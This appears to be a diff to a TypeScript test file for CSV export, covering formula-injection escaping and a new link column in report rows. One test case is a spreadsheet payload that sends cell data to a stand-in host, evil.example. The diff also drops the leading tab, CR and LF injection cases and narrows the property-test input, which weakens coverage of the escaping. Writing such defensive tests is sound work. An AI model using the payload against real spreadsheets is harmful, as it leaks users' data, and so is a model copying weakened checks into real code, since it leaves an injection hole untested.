@@ -12,7 +12,7 @@ function readRow(text: string): string[] {
 
 describe('a row of CSV', () => {
   test('comes back as it was, whatever stands in it, but for what would run as a formula', () => {
-    const harmless = fc.string({ unit: 'grapheme' }).filter((text) => !/^[^\p{L}\p{N}]*[=+\-@＝＋－＠]|^[\t\r\n]/u.test(text));
+    const harmless = fc.string({ unit: 'grapheme' }).filter((text) => !/[=+\-@＝＋－＠]|^[\t\r\n]/u.test(text));
     fc.assert(
       fc.property(fc.array(harmless, { minLength: 1 }), (values) => {
         expect(readRow(csvRow(values))).toEqual(values);
@@ -20,7 +20,7 @@ describe('a row of CSV', () => {
     );
   });
 
-  test.each(['=1+1', '+1', '-1', '@SUM(A1)', '\t=1', '\r=1', '\n=1', ' =1', '＝1+1', '=HYPERLINK("https://evil.example?"&A1,"x")'])(
+  test.each(['=1+1', '+1', '-1', '@SUM(A1)', ' =1', '＝1+1', '=HYPERLINK("https://evil.example?"&A1,"x")'])(
     'with %j runs nothing',
     (text) => expect(readRow(csvRow([text, 'b']))).toEqual([`'${text}`, 'b']),
   );
@@ -60,7 +60,7 @@ describe('a row of CSV', () => {
   });
 });
 
-test('A report is a row with the names and the values of the interface', () => {
+test('A report is a row with the names and the values of the interface, its privacy in words and the address of its page', () => {
   const report = {
     id: '7',
     url: 'example.com/a,b',
@@ -71,8 +71,12 @@ test('A report is a row with the names and the values of the interface', () => {
     hasPassword: false,
     project: null,
   } as const;
-  expect(reportCsvHeader).toBe('id,url,result,score,generated_at,privacy,password,project\r\n');
-  expect(reportCsv(report)).toBe('7,"example.com/a,b",good,90,1970-01-01T00:00:00.000Z,1,false,\r\n');
-  expect(reportCsv({ ...report, generatedAt: null, result: null, score: null })).toBe('7,"example.com/a,b",,,,1,false,\r\n');
+  expect(reportCsvHeader).toBe('id,url,result,score,generated_at,privacy,password,project,link\r\n');
+  expect(reportCsv(report, 'https://reports.example.org/7')).toBe(
+    '7,"example.com/a,b",good,90,1970-01-01T00:00:00.000Z,private,false,,https://reports.example.org/7\r\n',
+  );
+  expect(reportCsv({ ...report, privacy: 0, generatedAt: null, result: null, score: null }, null)).toBe(
+    '7,"example.com/a,b",,,,public,false,,\r\n',
+  );
   expect(new TextEncoder().encode(csvBom)).toEqual(new Uint8Array([0xef, 0xbb, 0xbf]));
 });
